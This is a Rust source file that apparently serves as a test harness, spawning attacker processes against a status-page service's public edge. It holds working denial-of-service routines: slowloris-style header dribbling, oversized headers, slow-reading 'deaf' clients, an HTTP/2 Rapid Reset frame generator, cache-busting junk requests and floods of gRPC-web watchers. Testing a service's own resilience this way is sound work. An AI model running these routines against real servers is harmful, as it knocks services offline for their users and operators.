//! Who attacks the public door, each at a pace of its own: this program again, in a process of its own, for the time that
//! its attack costs must not be taken for the edge's.

use std::{
    process::Stdio,
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use anyhow::Context as _;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::{
    io::{AsyncBufReadExt as _, AsyncReadExt as _, AsyncWriteExt as _, BufReader},
    net::{TcpSocket, TcpStream},
    process::{Child, Command},
    task::JoinSet,
    time::{Instant, interval_at, timeout},
};

/// What makes this program an attacker: the first of its arguments.
pub(crate) const COMMAND: &str = "attack";
/// An attacker that nobody ends goes no further.
const LONGEST: Duration = Duration::from_secs(30);
/// All of an attack's connections are there by then.
const BEGINNING: Duration = Duration::from_secs(2);

/// A way to be a nuisance.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    Dribble,
    Headers,
    Deaf,
    RapidReset,
    Junk,
    Watchers,
}

/// All of them.
pub(crate) const ATTACKS: [Attack; 6] =
    [Attack::Dribble, Attack::Headers, Attack::Deaf, Attack::RapidReset, Attack::Junk, Attack::Watchers];

/// Requests taken back at once on a connection, again and again.
const TAKEN_BACK: u32 = 50;
/// How often a watcher begins anew.
const WATCHES: Duration = Duration::from_secs(2);

/// The page that is attacked, and where.
#[derive(Debug, Clone)]
pub(crate) struct Target {
    /// Host and port.
    pub(crate) authority: String,
    pub(crate) slug: String,
    pub(crate) page_id: String,
}

impl Attack {
    /// In a word, for the command line.
    fn word(self) -> &'static str {
        match self {
            Self::Dribble => "dribble",
            Self::Headers => "headers",
            Self::Deaf => "deaf",
            Self::RapidReset => "rapid-reset",
            Self::Junk => "junk",
            Self::Watchers => "watchers",
        }
    }

    /// What it does, and at which pace.
    pub(crate) fn describe(self) -> String {
        let (connections, pace) = self.pace();
        let rate = connections as f64 / pace.as_secs_f64();
        match self {
            Self::Dribble => format!("{connections} connections that send headers, {rate:.0} bytes/s"),
            Self::Headers => format!("{connections} connections with 9 KiB of headers, {rate:.0} requests/s"),
            Self::Deaf => {
                format!("{connections} connections that ask without end and read, {rate:.0} bytes/s")
            }
            Self::RapidReset => {
                let rate = rate * f64::from(TAKEN_BACK);
                format!("{connections} connections that take requests back, {rate:.0} requests/s")
            }
            Self::Junk => {
                format!("{connections} connections with addresses that nobody has, {rate:.0} requests/s")
            }
            Self::Watchers => format!("{connections} watchers over gRPC-web, {rate:.0} of them anew/s"),
        }
    }

    /// Its connections, and how often each does what it does. The rates are what a generator can do for a small part of a
    /// core: at its full speed it would take the readers' core, whatever the edge does.
    fn pace(self) -> (usize, Duration) {
        match self {
            Self::Dribble => (2_000, Duration::from_secs(1)),
            Self::Headers => (200, Duration::from_millis(200)),
            Self::Deaf => (200, Duration::from_millis(200)),
            Self::RapidReset => (20, Duration::from_millis(200)),
            Self::Junk => (20, Duration::from_millis(20)),
            Self::Watchers => (1_000, WATCHES),
        }
    }

    /// Begins it, in a process that ends with what is answered.
    ///
    /// # Errors
    /// If it did not begin in time.
    pub(crate) async fn begin(self, on: &Target) -> anyhow::Result<Child> {
        let mut attacker = Command::new(std::env::current_exe()?)
            .args([COMMAND, self.word(), &on.authority, &on.slug, &on.page_id])
            .stdout(Stdio::piped())
            .kill_on_drop(true)
            .spawn()?;
        let says = attacker.stdout.take().context("an attacker that says when it has begun")?;
        let first = timeout(2 * BEGINNING, BufReader::new(says).lines().next_line()).await??;
        anyhow::ensure!(first.is_some(), "the attacker {self:?} did not begin");
        Ok(attacker)
    }
}

/// Attacks until it is killed.
///
/// # Errors
/// If the arguments are not those of an attack.
pub(crate) async fn run(asked: &[String]) -> anyhow::Result<()> {
    let [word, authority, slug, page_id] = asked else { anyhow::bail!("an attack, and a page to attack") };
    let attack = ATTACKS.into_iter().find(|attack| attack.word() == word).context("an attack")?;
    let limits = getrlimit(Resource::Nofile);
    setrlimit(Resource::Nofile, Rlimit { current: limits.maximum, ..limits })?;
    let (authority, slug, page_id) = (authority.clone(), slug.clone(), page_id.clone());
    let on: &'static Target = Box::leak(Box::new(Target { authority, slug, page_id }));
    let (connections, pace) = attack.pace();
    let mut attackers = JoinSet::new();
    let began = Instant::now();
    for number in 0..connections {
        // one after the other, so that no pace is a beat
        let share = number as f64 / connections as f64;
        attackers.spawn(async move {
            tokio::time::sleep_until(began + BEGINNING.mul_f64(share)).await;
            let mut ticks = interval_at(Instant::now() + pace.mul_f64(share.fract()), pace);
            while began.elapsed() < LONGEST {
                // whatever the edge does to it, it comes again
                let ended = match attack {
                    Attack::Dribble => dribble(on, &mut ticks).await,
                    Attack::Headers => headers(on, &mut ticks).await,
                    Attack::Deaf => deaf(on, &mut ticks).await,
                    Attack::RapidReset => rapid_reset(on, &mut ticks).await,
                    Attack::Junk => junk(on, &mut ticks).await,
                    Attack::Watchers => watch(on, &mut ticks).await,
                };
                if ended.is_err() {
                    ticks.tick().await;
                }
            }
        });
    }
    tokio::time::sleep_until(began + BEGINNING).await;
    println!("begun");
    while attackers.join_next().await.is_some() {}
    Ok(())
}

async fn connect(on: &Target) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect(&on.authority).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Reads what is there, and forgets it.
fn forget(stream: &TcpStream) -> std::io::Result<()> {
    let mut lot = [0; 16 * 1024];
    loop {
        match stream.try_read(&mut lot) {
            Ok(0) => return Err(std::io::ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
    }
}

type Ticks = tokio::time::Interval;

async fn dribble(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    let mut stream = connect(on).await?;
    stream.write_all(format!("GET /p/{} HTTP/1.1\r\nhost: localhost\r\nx: ", on.slug).as_bytes()).await?;
    loop {
        ticks.tick().await;
        stream.write_all(b"a").await?;
        forget(&stream)?;
    }
}

async fn headers(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    let mut stream = connect(on).await?;
    let long = "a".repeat(9 * 1024);
    let request = format!("GET /p/{} HTTP/1.1\r\nhost: localhost\r\nx: {long}\r\n\r\n", on.slug);
    loop {
        ticks.tick().await;
        stream.write_all(request.as_bytes()).await?;
        forget(&stream)?;
    }
}

async fn deaf(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    let mut addresses = tokio::net::lookup_host(&on.authority).await?;
    let address = addresses.next().ok_or(std::io::ErrorKind::NotFound)?;
    let socket = if address.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.set_recv_buffer_size(4 * 1024)?;
    let mut stream = socket.connect(address).await?;
    let request = format!("GET /p/{} HTTP/1.1\r\nhost: localhost\r\n\r\n", on.slug).repeat(100);
    stream.write_all(request.as_bytes()).await?;
    loop {
        ticks.tick().await;
        stream.read_u8().await?;
    }
}

async fn rapid_reset(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    let mut stream = connect(on).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
    // HPACK: :method GET, :scheme http, :authority and :path spelled
    let path = format!("/p/{}", on.slug);
    let mut head = b"\x82\x86\x41\x09localhost\x44".to_vec();
    head.push(path.len() as u8);
    head.extend_from_slice(path.as_bytes());
    let mut number = 1_u32;
    loop {
        ticks.tick().await;
        let mut burst = Vec::new();
        for _ in 0..TAKEN_BACK {
            burst.extend_from_slice(&[0, 0, head.len() as u8, 1, 5]);
            burst.extend_from_slice(&number.to_be_bytes());
            burst.extend_from_slice(&head);
            burst.extend_from_slice(&[0, 0, 4, 3, 0]);
            burst.extend_from_slice(&number.to_be_bytes());
            burst.extend_from_slice(&8_u32.to_be_bytes());
            number += 2;
        }
        stream.write_all(&burst).await?;
        forget(&stream)?;
    }
}

async fn junk(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    static NUMBER: AtomicU64 = AtomicU64::new(0);
    let mut stream = connect(on).await?;
    loop {
        ticks.tick().await;
        let number = NUMBER.fetch_add(1, Ordering::Relaxed);
        let target = match number % 2 {
            0 => format!("/p/{}?x={number}", on.slug),
            _ => format!("/p/junk-{number}"),
        };
        stream.write_all(format!("GET {target} HTTP/1.1\r\nhost: localhost\r\n\r\n").as_bytes()).await?;
        forget(&stream)?;
    }
}

/// Watches the page once, on a connection of its own as browsers do.
async fn watch(on: &Target, ticks: &mut Ticks) -> std::io::Result<()> {
    let mut stream = connect(on).await?;
    // `page_id` is the first field
    let message = [&[0x0a, on.page_id.len() as u8], on.page_id.as_bytes()].concat();
    let head = format!(
        "POST /pharos.incidents.v1.StatusService/WatchPage HTTP/1.1\r\nhost: localhost\r\n\
         content-type: application/grpc-web+proto\r\ncontent-length: {}\r\n\r\n",
        message.len() + 5
    );
    let call = [head.as_bytes(), &[0, 0, 0, 0, message.len() as u8], &message].concat();
    stream.write_all(&call).await?;
    ticks.tick().await;
    forget(&stream)
}
